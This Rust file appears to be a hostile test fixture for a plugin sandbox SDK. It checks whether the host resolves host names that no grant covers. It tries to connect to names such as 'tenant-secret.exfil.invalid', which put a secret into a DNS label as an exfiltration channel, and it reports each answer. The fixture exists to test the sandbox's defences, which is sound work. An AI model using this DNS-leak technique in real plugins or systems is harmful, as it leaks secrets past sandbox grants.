//! Hostile fixture: granted only an address block, it asks for host names,
//! one of them made up to carry data out through a DNS query. It reports
//! what each connect answered, so the test can see whether the host
//! resolved the name and what it told the guest.
use plumbline_plugin_sdk::prelude::*;
use plumbline_plugin_sdk::tcp::{connect, TcpError};

struct DnsLeak;

/// A name no grant covers; resolving it would send "tenant-secret" to
/// whichever DNS server the site uses.
const EXFIL: &str = "tenant-secret.exfil.invalid";

impl Plugin for DnsLeak {
    const NAME: &'static str = "fixture-dns-leak";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    fn categories() -> Vec<Category> {
        vec![Category::SmtpRelay]
    }
    fn capabilities() -> Capabilities {
        // describe() runs with no permissions at all: this must not resolve.
        let _ = connect("describe-time.exfil.invalid", 25, 1000);
        Capabilities::none().tcp("*", &[25])
    }
    fn scan(_ctx: &ScanContext) -> Result<Report, ScanError> {
        let mut lines = Vec::new();
        for host in ["localhost", EXFIL, "127.0.0.1"] {
            let answer = match connect(host, 25, 2000) {
                Ok(_) => "connected".to_string(),
                Err(TcpError::Denied(m)) => format!("denied: {m}"),
                Err(TcpError::Io(m)) => format!("io: {m}"),
                Err(TcpError::Timeout(m)) => format!("timeout: {m}"),
                Err(other) => format!("other: {other:?}"),
            };
            lines.push(format!("{host} => {answer}"));
        }
        Err(ScanError::Other(lines.join("\n")))
    }
}

register_plugin!(DnsLeak);
